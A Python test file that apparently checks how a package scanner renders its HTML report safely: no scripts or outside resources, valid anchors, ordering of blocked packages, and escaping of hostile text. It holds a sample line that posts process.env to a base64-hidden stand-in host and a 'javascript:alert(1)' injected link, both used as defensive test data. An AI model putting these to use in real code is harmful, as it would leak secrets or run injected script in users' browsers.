from __future__ import annotations

import re
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser

from hypothesis import given, settings

from assay.model.report import Report
from assay.reports.html.render import render
from tests.reports.sample import hostile, report
from tests.reports.texts import hostile_texts

VOID = frozenset({"meta", "br", "link", "img", "input", "base"})


class Page(HTMLParser):
    """Counts tags and attributes, and checks that tags are closed in order."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.attributes: Counter[str] = Counter()
        self.links: list[str] = []
        self.text: list[str] = []
        self.open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes.update(f"{tag}.{name}" for name, _ in attrs)
        self.links.extend(value or "" for name, value in attrs if name in ("href", "src"))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def page(made: Report) -> Page:
    parsed = Page(render(made))
    assert parsed.open == []
    return parsed


def test_the_page_needs_nothing_from_outside_and_no_script() -> None:
    made = page(report())
    assert {"script", "link", "img", "iframe", "base", "form"} & set(made.tags) == set()
    outside = [link for link in made.links if not link.startswith("#")]
    assert outside == ["https://osv.invalid/MAL-2026-1111", "https://advisories.invalid/GHSA-aaaa-bbbb-cccc"]
    assert "url(" not in render(report())
    assert "@import" not in render(report())


def test_every_place_that_is_linked_is_there() -> None:
    text = render(report())
    for anchor in re.findall(r'href="#([\w-]+)"', text):
        assert f'id="{anchor}"' in text


def test_it_says_what_matters_first_and_lists_every_package() -> None:
    text = render(report())
    assert '<h1 class="block">1 package to block' in text
    assert text.index("crossenv@7.0.0</strong>") < text.index("minimist@1.2.0</strong>")
    assert all(f'<th scope="row">{package.ref.name}' in text for package in report().packages)
    assert "Nothing found in 2 of 11 packages" in text


def test_a_blocked_package_is_open_and_others_are_folded() -> None:
    text = render(report())
    assert text.count(" open>") == 1
    assert '<details class="package block" open>' in text


def test_code_of_packages_is_escaped_and_defanged() -> None:
    text = render(report())
    assert "post(atob(&#39;aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQveA==&#39;), process.env)" in text
    assert "hxxps://collect[.]invalid/x" in text


def test_an_empty_report_is_a_page_too() -> None:
    made = page(replace(report(), packages=(), inputs=(), gaps=(), feeds=()))
    assert "Nothing was left out." in "".join(made.text)


def test_a_reference_that_is_no_web_address_is_no_link() -> None:
    seen = report().packages[2]
    finding = replace(seen.verdict.findings[0], references=("javascript:alert(1)", "http://x.invalid"))
    changed = replace(seen, verdict=replace(seen.verdict, findings=(finding,)))
    assert [link for link in page(replace(report(), packages=(changed,))).links if not link.startswith("#")] == []


@given(hostile_texts)
@settings(max_examples=40, deadline=None)
def test_hostile_text_changes_no_structure(text: str) -> None:
    made, harmless = page(hostile(text)), page(hostile("h" * len(text)))
    assert made.tags == harmless.tags
    assert made.attributes == harmless.attributes
    assert all(link.startswith(("#", "https://")) for link in made.links)
